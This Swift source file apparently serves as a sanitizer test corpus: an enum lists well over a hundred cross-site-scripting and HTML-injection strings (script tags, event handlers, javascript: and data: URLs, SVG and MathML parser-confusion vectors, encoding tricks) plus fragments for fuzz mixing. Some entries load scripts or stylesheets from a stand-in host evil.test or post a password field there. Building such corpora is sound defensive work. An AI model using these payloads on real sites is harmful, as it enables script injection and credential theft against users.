/// Texts that try to run something, load something or break out, as they are known from a decade of reports.
enum Hostile {
  static let texts: [String] = [
    // Scripts
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)",
    "<script><!--</script><img src=x onerror=alert(1)>--></script>", "</script><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<body onload=alert(1)>", "<html onmouseover=x>a",
    // Handlers
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<a onclick=alert(1)>x</a>",
    "<p onmouseover='alert(1)'>x</p>", "<details open ontoggle=alert(1)>x</details>", "<b/onclick=alert(1)//>x</b>",
    "<img src=\"x\"onerror=\"alert(1)\">", "<div style=\"x\" onfocus=alert(1) tabindex=1>x</div>", "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)>", "<audio><source onerror=alert(1)></audio>", "<input autofocus onfocus=alert(1)>",
    // Addresses
    "<a href=javascript:alert(1)>x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>", "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>", "<a href=JAVASCRIPT:alert(1)>x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](JaVaScRiPt:alert(1))", "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<a href=vbscript:x>x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<img srcset=\"javascript:x 1x, //evil.test/x 2x\">", "<a href=//evil.test ping=//evil.test/p>x</a>", "<a href=\"\\\\evil.test\">x</a>",
    "<a href=\"https:evil\">x</a>", "<a href=x target=_blank download>x</a>", "<a href='x:y'>x</a>", "<a xlink:href=javascript:x>x</a>",
    // SVG, MathML and other modes
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><desc><p>x<img src=x onerror=alert(1)></desc></svg>",
    "<math href=javascript:alert(1)>x</math>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<style>@import '//evil.test/x.css';</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style='position:fixed;inset:0'>x</p>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
    // Elements that act
    "<iframe src=//evil.test></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://www.youtube.com/embed/x%22onload=alert(1)></iframe>",
    "<iframe src=https://www.youtube.com.evil.test/embed/x></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=x.swf></object>",
    "<embed src=javascript:alert(1)>", "<form action=//evil.test><input name=password><button>Go</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>", "<isindex type=image src=x onerror=alert(1)>", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<applet code=x></applet>",
    "<dialog open onclose=alert(1)>x</dialog>", "<keygen autofocus onfocus=alert(1)>", "<x onclick=alert(1)>x</x>", "<custom-element onconnected=x>x</custom-element>",
    "<p class=codepen data-slug-hash='x\" onclick=alert(1)' data-user=\"../../x\">x</p>", "<image src=x onerror=alert(1)>", "<a href=x is=evil-link>x</a>",
    // Names that take the place of the page's own
    "<p id=viewer name=cookie>x</p>", "<img name=body>", "<a id=location href=x>x</a>", "# constructor\n\n# __proto__\n", "<div class=\"toast admin\" id=\"\">x</div>",
    // Broken text
    "<img src=\"x\" alt=\"a\0b\" title='\0'>", "<scr\0ipt>alert(1)</scr\0ipt>", "<a href=\"java\0script:alert(1)\">x</a>", "<a href='x", "<p title=\"", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)> ?>", "</p><p></br><img src=x onerror=x>",
    "<table><a href=javascript:x><tr><td><a href=javascript:y>z</table>", "<a href=x><table><td><a href=y>z</a></table></a>", "<p><b a><i b><p>x</b></i>y", "`<script>`", "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "~~~ js\" onclick=\"x\ny\n~~~", "<pre><code class='language-\"><script>'>x</code></pre>", "<pre class=\"mermaid\"><img src=x onerror=x></pre>",
    "<code><![CDATA[</code><script>x</script>]]>", "<td><th scope='\" onclick=x'>", "<ol start=999999999999999999999 type='\"'><li value=-1>x", "<td colspan=1000000>x", "<time datetime='\"><script>'>x</time>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u{202E}<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<İmg src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞",
  ]

  /// Pieces to be mixed.
  static let pieces: [String] =
    texts + [
      "<p>", "</p>", "<table>", "<tr>", "<td>", "</table>", "<a href=x>", "</a>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>",
      "<b>", "</b>", "<select>", "<!--", "-->", "\"", "'", ">", "\n\n", "```\n", "    ", "> ", "- ", "<div markdown=1>\n", "<pre>", "</pre>", "<template>",
    ]
}
